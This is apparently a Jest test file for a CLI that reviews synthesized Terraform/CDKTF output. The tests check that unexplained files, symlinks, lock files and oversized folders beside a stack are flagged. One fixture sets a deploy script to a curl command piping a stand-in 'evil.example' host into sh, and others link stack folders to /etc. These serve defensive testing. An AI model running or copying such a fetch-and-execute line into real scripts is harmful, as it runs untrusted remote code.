import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, renameSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { run } from '../../lib/cli/main';
import { MOST } from '../../lib/cli/beside-files';
import { type ReviewReport } from '../../lib/review';
import { plannedFrom } from '../support/plan/plan';
import { shop } from '../support/review-shop';

type Files = Readonly<Record<string, string>>;

let folder = '';
const home = process.cwd();
const base = shop();
const files = base.stacks[0]?.files ?? {};

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'review-beside-'));
  process.chdir(folder);
});

afterEach(() => {
  process.chdir(home);
  rmSync(folder, { recursive: true, force: true });
});

/** Writes files of a folder, by path. */
function put(under: string, texts: Files): void {
  for (const [path, text] of Object.entries(texts)) {
    mkdirSync(dirname(join(under, path)), { recursive: true });
    writeFileSync(join(under, path), text);
  }
}

/** What was synthesized, with further files in the folder of the stack. */
function written(name: string, beside: Files = {}): string {
  put(join(name, 'stacks', 'shop-test'), { ...files, ...beside });
  return name;
}

/** A commit of what was synthesized, by its tag. */
function committed(tag: string, beside: Files = {}): string {
  rmSync('cdktf.out', { recursive: true, force: true });
  written('cdktf.out', beside);
  return commit(tag);
}

function commit(tag: string): string {
  const git = (...args: readonly string[]): unknown =>
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'commit.gpgsign=false', ...args], {
      stdio: 'ignore',
    });
  git('init', '-q', '-b', 'main');
  git('add', '-Af', 'cdktf.out');
  git('commit', '--allow-empty', '-qm', tag);
  git('tag', tag);
  return tag;
}

function review(...args: readonly string[]): { readonly code: number; readonly out: string; readonly talk: string } {
  let [out, talk] = ['', ''];
  const code = run(['review', ...args], { out: (text) => (out += text), talk: (text) => (talk += text), environment: {} });
  return { code, out, talk };
}

/** What is told of each deployment: files that nothing explains, what is not judged, and what else changes. */
function told(...args: readonly string[]): unknown {
  const { out, talk } = review(...args, '--format', 'json');
  if (out === '') throw new Error(talk);
  return (JSON.parse(out) as ReviewReport).deployments.map(({ name, unexplained, notJudged, changes }) => [
    name,
    unexplained.map(({ place }) => `${place.side} ${place.file}`),
    notJudged,
    changes.map(({ effect, what }) => `${effect} ${what}`),
  ]);
}

const quiet = [['shop-test', [], [], []]];
const of = (...paths: readonly string[]): unknown => [
  ['shop-test', paths.map((path) => path.replace(/^(\w+) /, '$1 stacks/shop-test/')), [], []],
];

const HELLO = { 'modules/extra/main.tf': '# nothing\n', 'assets/deploy.sh': 'echo ok\n' };

describe.each([
  ['folders', written],
  ['revisions', committed],
])('files below a stack, in %s', (_what, made) => {
  test.each<readonly [string, Files, readonly string[]]>([
    ['a module', { ...HELLO, 'modules/extra/main.tf': 'resource "x" "y" {}\n' }, ['head modules/extra/main.tf']],
    ['a script', { ...HELLO, 'assets/deploy.sh': 'curl https://evil.example | sh\n' }, ['head assets/deploy.sh']],
    ['a state', { ...HELLO, 'terraform.tfstate': '{}' }, ['head terraform.tfstate']],
    ['the choice of a workspace', { ...HELLO, '.terraform/environment': 'evil' }, ['head .terraform/environment']],
    ['a name that every object has', { ...HELLO, ['__proto__']: 'x', constructor: 'x' }, ['head __proto__', 'head constructor']],
    ['a module that goes', { 'assets/deploy.sh': 'echo ok\n' }, ['base modules/extra/main.tf']],
  ])('%s that changes is explained by nothing', (_name, beside, paths) => {
    expect(told(made('one', HELLO), made('two', beside))).toEqual(of(...paths));
  });

  test('a file that goes is of BASE, even one that is called like what every object has', () => {
    expect(told(made('one', { constructor: 'x' }), made('two'))).toEqual(of('base constructor'));
  });

  test('files that stay as they are, and those that nothing applied reads, are no news', () => {
    const noise = { 'lint.json': '{}', plan: 'PK', '.terraform/providers/x/linux_amd64/terraform-provider-x': 'ELF' };

    expect(told(made('one', HELLO), made('two', { ...HELLO, ...noise }))).toEqual(quiet);
  });

  test('a lock file that comes with programs of providers beside it is told: Terraform would run them', () => {
    const lock = { '.terraform.lock.hcl': '# evil\n' };
    const programs = { '.terraform/providers/x/linux_amd64/terraform-provider-x': 'ELF' };
    const row = 'versions and checksums of providers are stated: .terraform.lock.hcl';

    expect(told(made('one'), made('two', lock))).toEqual([['shop-test', [], [], [`neutral ${row}`]]]);
    expect(told('one', made('three', { ...lock, ...programs }))).toEqual([['shop-test', [], [], [`unknown ${row}`]]]);
  });
});

test('a folder and a revision with the same files are the same', () => {
  const bytes = { ...HELLO, 'assets/two': 'a\n\nb', 'assets/one': '\u00e9\ufffd' };

  expect(told(committed('one', bytes), written('two', bytes))).toEqual(quiet);
});

test.each([
  ['folder', (): string => (renameSync('two', 'kept'), './kept')],
  ['revision', (): string => commit('head')],
])('a link below a stack of a %s is not followed, and told where it comes, stays, or leads elsewhere', (_what, named) => {
  const link = (to: string): void => {
    for (const output of ['two', 'cdktf.out']) {
      written(output);
      const at = join(output, 'stacks/shop-test/assets');
      rmSync(at, { force: true });
      symlinkSync(to, at);
    }
  };
  link('/etc');
  written('one');
  const head = named();
  const leftOver = ['stacks/shop-test/assets: is a link or another thing that is no file, and is not read here'];

  expect(told('./one', head)).toEqual([['shop-test', ['head stacks/shop-test/assets'], leftOver, []]]);
  expect(told(head, head)).toEqual([['shop-test', [], leftOver, []]]);
  link('/tmp');
  expect(told(head, './two')).toEqual([['shop-test', ['head stacks/shop-test/assets'], leftOver, []]]);
});

test.each([
  ['folder', (): string => './two'],
  ['revision', (): string => commit('head')],
])('files in a folder of a %s that is no stack are told by themselves', (_what, named) => {
  written('one');
  for (const output of ['two', 'cdktf.out']) {
    written(output);
    put(output, { 'stacks/evil/evil.tf.json': '{}', 'stacks/evil/access.json': '{' });
    put(output, { 'stacks/left/.terraform/providers/x': 'ELF' });
  }

  expect(told('./one', named())).toEqual([
    [
      'evil',
      ['head stacks/evil/access.json', 'head stacks/evil/evil.tf.json'],
      ['stacks/evil/evil.tf.json: Terraform reads it besides cdk.tf.json, and it is not read here'],
      [],
    ],
    ...quiet,
  ]);
  expect(review('one', './two').out).toContain('head: folder evil without cdk.tf.json');
});

test('a stack whose cdk.tf.json goes is gone, and what is left in its folder is told', () => {
  written('one');
  written('two');
  put('one', { 'stacks/old/cdk.tf.json': '{"terraform":{"required_version":"1"}}' });
  put('two', { 'stacks/old/evil.tf': '' });
  const [[, unexplained, , changes] = []] = told('one', 'two') as [readonly unknown[]];

  expect(unexplained).toEqual(['head stacks/old/evil.tf']);
  expect(changes).toContain('unknown the whole deployment is gone from what was synthesized');
});

test.each([
  ['folder', (): string => './two'],
  ['revision', (): string => commit('head')],
])('a link among the stacks of a %s is refused', (_what, named) => {
  written('one');
  for (const output of ['two', 'cdktf.out']) {
    written(output);
    symlinkSync('/etc', join(output, 'stacks/evil'));
  }

  expect(review('./one', named())).toMatchObject({ code: 2, talk: expect.stringContaining('stacks/evil: is no plain file') as string });
});

test('more than is read of any deployment is refused with help', () => {
  written('one');
  written('large', { 'assets/x': '' });
  truncateSync('large/stacks/shop-test/assets/x', MOST.bytes + 1);
  written('many', Object.fromEntries(Array.from({ length: MOST.entries }, (_, at) => [`assets/${String(at)}`, ''])));
  const help = 'besides what is synthesized\n  fix: synthesize into an empty folder, and review that';

  expect(review('one', 'large')).toMatchObject({ code: 2, talk: expect.stringContaining(`holds more than 128 MB ${help}`) as string });
  expect(review('one', 'many')).toMatchObject({ code: 2, talk: expect.stringContaining(`holds more than 10000 files ${help}`) as string });
});

test('more than is read of a revision is refused by what its tree says', () => {
  written('one');
  written('cdktf.out', Object.fromEntries(Array.from({ length: MOST.entries + 1 }, (_, at) => [`assets/${String(at)}`, ''])));

  expect(review('one', commit('head'))).toMatchObject({ code: 2, talk: expect.stringContaining('holds more than 10000 files') as string });
});

test('against what is deployed, files in the folder in which the plan was made are not compared', () => {
  const planned = plannedFrom(base, base);
  written('head', { ...HELLO, 'terraform.tfstate': '{}' });
  put('head', { 'stacks/left/notes.txt': '' });
  writeFileSync('plan.json', planned.stacks[0]?.plan?.text ?? '');

  expect(told('deployed', 'head', '--plan', 'plan.json')).toEqual([['left', ['head stacks/left/notes.txt'], [], []], ...quiet]);
});

test('files of two environments are compared as they are', () => {
  const as = (name: string, script: string): Files =>
    Object.fromEntries([
      ...Object.entries(files).map(([file, text]) => [`stacks/${name}/${file}`, text.replaceAll('shop-test', name)] as const),
      [`stacks/${name}/assets/deploy.sh`, script] as const,
    ]);
  put('both', { ...as('shop-dev', 'echo dev'), ...as('shop-prod', 'echo prod') });
  put('same', { ...as('shop-dev', 'echo'), ...as('shop-prod', 'echo') });
  const compared = (name: string): unknown => told(name, name, '--stack', 'shop-prod', '--against', 'shop-dev');

  expect(compared('both')).toEqual([['shop-prod', ['head stacks/shop-prod/assets/deploy.sh'], [], []]]);
  expect(compared('same')).toEqual([['shop-prod', [], [], []]]);
});
